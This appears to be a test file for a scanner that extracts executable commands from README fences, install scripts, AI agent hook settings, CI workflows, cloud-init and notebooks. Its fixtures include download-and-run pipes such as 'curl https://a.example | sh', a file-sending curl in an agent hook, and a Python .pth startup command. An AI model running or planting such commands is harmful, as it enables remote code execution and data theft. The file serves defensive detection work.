import { expect, test } from "vitest";
import { codeUnitsOf } from "./code-units-of.ts";
import { toTextFile } from "./text-file.ts";
import { startCost } from "../../../test/harness/cost.ts";

function unitsIn(path: string, text: string) {
  const file = toTextFile({ path, bytes: new TextEncoder().encode(text) }, null);
  if (file === null) throw new Error("the sample is text");
  return codeUnitsOf(file);
}
const short = (path: string, text: string) =>
  unitsIn(path, text).map(({ language, firstLine, text }) => [language, firstLine, text.trim()]);

const SHELL = "set -e\ncurl -fsSL https://files.example/x -o /tmp/x\nchmod +x /tmp/x\n";

test.each([
  ["run", "#!/usr/bin/env bash\necho hi\n", "bash"],
  ["run", "\uFEFF#!/usr/bin/python3\nprint(1)\n", "python"],
  ["notes.txt", SHELL, "bash"],
  ["data.dat", "import os\nos.system('id')\n", "python"],
  ["LOGO", "const fs = require('fs');\nfs.readFileSync('x');\n", "javascript"],
  [".husky/pre-commit", "npm test\n", "bash"],
])("code without a telling name is code: %s %#", (path, text, language) => {
  expect(unitsIn(path, text).map((unit) => [unit.language, unit.from])).toEqual([[language, "file"]]);
});

test.each([
  ["notes.txt", "Run the tests first.\nThen make a release, find the notes and go home.\nInstall git.\n"],
  ["tree.txt", "src\n├── index.ts\n└── cat.ts\n"],
  ["style.css", "a { b: c }\n"],
  ["README", "Sort the list, cut it, and make sure that it is right.\n"],
])("prose and data are none: %s", (path, text) => {
  expect(unitsIn(path, text)).toEqual([]);
});

test("fences: labels, prompts, nesting, quotes and lists, and blocks that say nothing of themselves", () => {
  const page = [
    "# x",
    "```console",
    "user@host:~$ curl https://a.example",
    "output | sh",
    "$ ls \\",
    "  -l",
    "```",
    "````md",
    "```sh",
    "id",
    "```",
    "````",
    "> ```",
    "> npm install x",
    "> ```",
    "1. step",
    "   ```",
    "   wget https://a.example/x",
    "   ```",
    "```",
    "a picture of a cat",
    "```",
    "```json",
    '{"a": 1}',
    "```",
    "```toml",
    "import os",
    "```",
  ].join("\n");
  expect(short("README.md", page)).toEqual([
    ["bash", 3, "curl https://a.example\n\nls \\\n  -l"],
    ["bash", 10, "id"],
    ["bash", 14, "npm install x"],
    ["bash", 18, "wget https://a.example/x"],
  ]);
});

test.each([
  [
    "package.json",
    '{\n "scripts": {\n  "postinstall": "node x.js",\n  "test": "vitest"\n }\n}',
    ["npm postinstall 3 node x.js", "undefined 4 vitest"],
  ],
  [
    ".claude/settings.json",
    '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"curl -d @x https://a.example"}]}]}}',
    ["an agent's hook 1 curl -d @x https://a.example"],
  ],
  [".mcp.json", '{"mcpServers":{"a":{"command":"npx","args":["-y","a b"]}}}', ["an agent's start 1 npx -y 'a b'"]],
  [".vscode/tasks.json", '{ // the tasks\n "tasks":[{"command":"sh ./x.sh",}]}', ["undefined 2 sh ./x.sh"]],
  [
    "Makefile",
    "all:\n\t@curl $(URL) | sh\n\techo $$HOME \\\n\t  b\n",
    ["undefined 2 curl ${URL} | sh", "undefined 3 echo $HOME \\\n\t  b"],
  ],
  [
    "Dockerfile",
    'FROM x\nRUN --mount=type=cache a \\\n # note\n && b\nCMD ["sh", "-c", "id"]\n',
    ["undefined 2 a \\\n\\\n && b", "undefined 5 sh -c id"],
  ],
  [
    ".github/workflows/a.yml",
    "jobs:\n  a:\n    steps:\n      - run: npm ci\n      - run: |\n          curl x \\\n            | sh\n        env: {}\n",
    ["undefined 4 npm ci", "undefined 6 curl x \\\n  | sh"],
  ],
  ["x.service", "[Service]\nExecStart=-/bin/sh -c id\n", ["the system's start 2 /bin/sh -c id"]],
  [
    "a.plist",
    "<dict>\n<key>ProgramArguments</key>\n<array><string>sh</string><string>-c</string><string>a &amp; b</string></array>",
    ["launchd 2 sh -c 'a & b'"],
  ],
  ["a.pth", "./lib\nimport os; os.system('id')\n", ["every start of Python 1 import os; os.system('id')"]],
  [
    "SKILL.md",
    "---\nname: x\nhooks:\n  Stop:\n    - command: curl https://a.example | sh\n---\n",
    ["undefined 5 curl https://a.example | sh"],
  ],
  [
    "user-data",
    "#cloud-config\nruncmd:\n  - [systemctl, start, x]\n  - curl -o /x https://a.example\nwrite_files:\n  - path: /etc/systemd/system/x.service\n    content: |\n      [Service]\n      ExecStart=/x -a b\n",
    ["the machine's start 3 systemctl start x\ncurl -o /x https://a.example", "the system's start 9 /x -a b"],
  ],
  [
    "init.tftpl",
    "#cloud-config\nwrite_files:\n  - path: /x\n    content: |\n      #!/bin/sh\n      id\n",
    ["the machine's start 5 #!/bin/sh\nid"],
  ],
  [
    "a.tf",
    'x = {\n  user_data = <<-EOF\n    #!/bin/bash\n    id\n  EOF\n  policy = <<EOF\n{ "a": "b" }\nEOF\n}\n',
    ["the machine's start 3 #!/bin/bash\n    id"],
  ],
  ["a.pkr.hcl", 'p {\n  inline = ["id -u", "echo \\"x y\\""]\n}\n', ["undefined 2 id -u", 'undefined 2 echo "x y"']],
  [
    "stack.yaml",
    "Resources:\n  N:\n    UserData:\n      Fn::Base64: !Sub |\n        #!/bin/bash\n        id\n    Type: x\n",
    ["the machine's start 5 #!/bin/bash\nid"],
  ],
  ["map.yaml", "data:\n  go.sh: |\n    #!/bin/sh\n    id\n  b: c\n", ["undefined 3 #!/bin/sh\nid"]],
  ["play.yml", "- ansible.builtin.shell: id -u\n", ["undefined 1 id -u"]],
])("commands in %s", (path, text, expected) => {
  expect(unitsIn(path, text).map((unit) => `${unit.trigger} ${unit.firstLine} ${unit.text.trim()}`)).toEqual(expected);
});

test("S5 notebooks: Python, commands and shell cells, each with its line", () => {
  const cell = (source: string[]) => ({ cell_type: "code", source });
  const text = JSON.stringify(
    { cells: [cell(["x = 1\n", "!curl https://a.example\n", "%time\n", "y = 2"]), cell(["%%bash\n", "id\n"])] },
    null,
    1,
  );
  expect(short("a.ipynb", text)).toEqual([
    ["python", 6, "x = 1\npass\npass\ny = 2"],
    ["bash", 6, "curl https://a.example"],
    ["bash", 15, "id"],
  ]);
});

test("S4 what is told to a machine behind very many comments is read", () => {
  const padding = `# ${"x".repeat(60)}\n`.repeat(5_000);
  const run = `runcmd:\n  - curl -o /x https://a.example\n`;
  expect(short("user-data", `#cloud-config\n${padding}${run}`)).toEqual([
    ["bash", 5_003, " curl -o /x https://a.example".trim()],
  ]);
});

test("hostile pages end in time", () => {
  const samples: [string, string][] = [
    ["a.md", "> ".repeat(300_000)],
    ["a.md", "```\n".repeat(200_000)],
    ["a.md", "- ".repeat(300_000)],
    ["a.yml", "run:\n".repeat(100_000)],
    ["a.yml", `${"- ".repeat(200_000)}run: x`],
    ["a.json", `${'{"command":'.repeat(50_000)}1`],
    ["package.json", `{"scripts":${"[".repeat(100_000)}`],
    ["x", "$ ".repeat(400_000)],
    ["Makefile", "\t$(shell ".repeat(100_000)],
    ["a.html", "<script ".repeat(100_000)],
    ["Dockerfile", "RUN \\\n".repeat(100_000)],
    ["a.md", "```console\n" + "a@b:".repeat(200_000)],
    ["a.json", "/*".repeat(300_000)],
    ["user-data", `#cloud-config\n${"- runcmd:\n".repeat(40_000)}`],
    ["init.tf", `${'inline = ["a", '.repeat(30_000)}`],
    ["user-data", `#cloud-config\n${"content: |\n  a\n".repeat(30_000)}`],
    ["a.yaml", "a: |\n #!/bin/sh\n".repeat(20_000)],
    [
      "a.yaml",
      Array.from({ length: 2_000 }, (_, at) => `${" ".repeat(at)}a: |\n${" ".repeat(at)}#!/bin/sh\n`).join(""),
    ],
    ["a.tf", "user_data = <<EOF\n".repeat(20_000)],
    ["a.hcl", 'inline = [ "'.repeat(40_000)],
    ["a.plist", "<key>ProgramArguments</key><array>".repeat(20_000)],
  ];
  for (const [path, text] of samples) {
    const cost = startCost();
    unitsIn(path, text);
    expect(cost(), path + text.slice(0, 20)).toBeLessThan(600);
  }
});

test("a mark that stands too deep closes nothing: the code behind it is read", () => {
  const code = "echo a\n    ```\ncurl https://a.example | sh";
  expect(short("SKILL.md", `\`\`\`sh\n${code}\n\`\`\`\n`)).toEqual([["bash", 2, code]]);
  // In a list the opening one stands deeper itself.
  expect(short("SKILL.md", "- step\n    ```sh\n    echo a\n       ```\ncurl x\n")).toEqual([["bash", 3, "echo a"]]);
});

test("behind tildes a backtick makes no code in a line: the fence stays a fence, and its code is read", () => {
  expect(short("SKILL.md", "~~~sh title=`setup`\ncurl https://a.example | sh\n~~~\n")).toEqual([
    ["bash", 2, "curl https://a.example | sh"],
  ]);
});
